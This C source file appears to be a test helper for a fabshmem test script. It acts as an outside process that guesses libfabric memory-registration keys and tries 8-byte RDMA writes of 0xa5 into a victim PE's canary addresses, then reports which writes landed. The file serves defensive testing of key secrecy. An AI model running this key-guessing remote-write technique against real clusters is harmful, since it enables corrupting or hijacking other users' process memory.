/*
 * A process outside the job that tries to write into a PE's memory
 * through libfabric, for tests/init/mr_attack.sh: it opens the provider
 * the job uses (tcp;ofi_rxm), puts the PE's listening address into its
 * address vector and writes 8 bytes of 0xa5 at every place a canary of
 * the PE may be, under every memory-registration key it would guess (the
 * small numbers that fabshmem used to request, a few more, 0 and all ones),
 * as an offset into the registration (what tcp uses) and as a virtual
 * address.  It knows the layout as well as can be (mr_victim tells it
 * where its canaries are and which bases a registration would start
 * from); only the keys are secret.
 *
 *   mr_attack IP PORT TARGET...     TARGET is ADDR or ADDR@BASE (hex): a
 *                                   canary's virtual address, and a
 *                                   registration's start it is an offset
 *                                   from
 *
 * Prints one line per write that the target accepted ("mr_attack: landed:
 * key K at X") and a summary "mr_attack: W writes, A accepted, R refused,
 * T timed out"; exit status 0, 77 when the provider cannot be opened, 1 on
 * a local failure.  Whether anything changed is for the PE to check.
 */
#include "outsider.h"
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/uio.h>
#include <time.h>

#define MAX_TARGETS 16
/* Seconds a write may take before it counts as timed out. */
#define WRITE_TIMEOUT 2

static outsider_t x;

/* What became of each write: 0 no answer yet, 1 accepted, -1 refused. */
#define MAX_WRITES 1024
static int result[MAX_WRITES];

/* Drives the provider once and records the completions that came. */
static void poll_cq(void)
{
    struct fi_cq_entry e[16];
    struct fi_cq_err_entry err;
    ssize_t n, i;

    n = fi_cq_read(x.cq, e, 16);
    for (i = 0; i < n; i++)
        *(int *)e[i].op_context = 1;
    if (n == -FI_EAVAIL) {
        memset(&err, 0, sizeof(err));
        if (fi_cq_readerr(x.cq, &err, 0) == 1 && err.op_context)
            *(int *)err.op_context = -1;
    }
}

/* Waits up to WRITE_TIMEOUT seconds for write w's completion: 1 accepted,
 * -1 refused, 0 no answer. */
static int wait_write(int w)
{
    time_t end = time(NULL) + WRITE_TIMEOUT;

    while (!result[w] && time(NULL) <= end)
        poll_cq();
    return result[w];
}

/* The message of one 8-byte write of payload to (peer, raddr, key). */
static uint64_t payload = 0xa5a5a5a5a5a5a5a5ull;

static const struct fi_msg_rma *msg_of(struct fi_rma_iov *rma, struct iovec *iov, fi_addr_t peer,
                                       uint64_t raddr, uint64_t key, void *ctx)
{
    static struct fi_msg_rma msg;

    iov->iov_base = &payload;
    iov->iov_len = sizeof(payload);
    rma->addr = raddr;
    rma->len = sizeof(payload);
    rma->key = key;
    memset(&msg, 0, sizeof(msg));
    msg.msg_iov = iov;
    msg.iov_count = 1;
    msg.addr = peer;
    msg.rma_iov = rma;
    msg.rma_iov_count = 1;
    msg.context = ctx;
    return &msg;
}

int main(int argc, char **argv)
{
    static const uint64_t keys[] = { 0, 1, 2, 3, 4, 5, 6, 7, 8, 20, 21, 22, 23, 24, 0xffffffffull,
                                     ~0ull };
    struct sockaddr_in sin;
    uint64_t addr[MAX_TARGETS], base[MAX_TARGETS];
    struct fi_rma_iov rma;
    struct iovec iov;
    int ntargets = 0, i, k, v, ret, writes = 0, accepted = 0, refused = 0, timeouts = 0;

    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc < 4) {
        fprintf(stderr, "usage: mr_attack IP PORT ADDR[@BASE]...\n");
        return 1;
    }
    if (outsider_addr(&x, argv[1], argv[2], &sin))
        return 1;
    for (i = 3; i < argc && ntargets < MAX_TARGETS; i++, ntargets++) {
        char *at = strchr(argv[i], '@');
        addr[ntargets] = strtoull(argv[i], NULL, 16);
        base[ntargets] = at ? strtoull(at + 1, NULL, 16) : 0;
    }
    if ((ret = outsider_open(&x, "mr_attack")))
        return ret;
    for (i = 0; i < ntargets; i++) {
        for (k = 0; k < (int)(sizeof(keys) / sizeof(keys[0])); k++) {
            /* As an offset into the registration, then as a virtual address. */
            for (v = 0; v < 2; v++) {
                uint64_t raddr = v ? addr[i] : addr[i] - base[i];
                int w = writes;
                if ((!v && !base[i]) || w >= MAX_WRITES)
                    continue;
                writes++;
                if (outsider_connect(&x, &sin))
                    return 1;
                do {
                    ret = (int)fi_writemsg(x.ep, msg_of(&rma, &iov, x.peer, raddr, keys[k],
                                                      &result[w]), FI_DELIVERY_COMPLETE);
                    if (ret == -FI_EAGAIN)
                        poll_cq();
                } while (ret == -FI_EAGAIN);
                ret = ret ? -1 : wait_write(w);
                outsider_disconnect(&x);
                switch (ret) {
                case 1:
                    accepted++;
                    printf("mr_attack: landed: key %#llx at %#llx\n",
                           (unsigned long long)keys[k], (unsigned long long)raddr);
                    break;
                case -1:
                    refused++;
                    break;
                default:
                    timeouts++;
                }
            }
        }
    }
    printf("mr_attack: %d writes, %d accepted, %d refused, %d timed out\n", writes, accepted,
           refused, timeouts);
    outsider_close(&x);
    return 0;
}
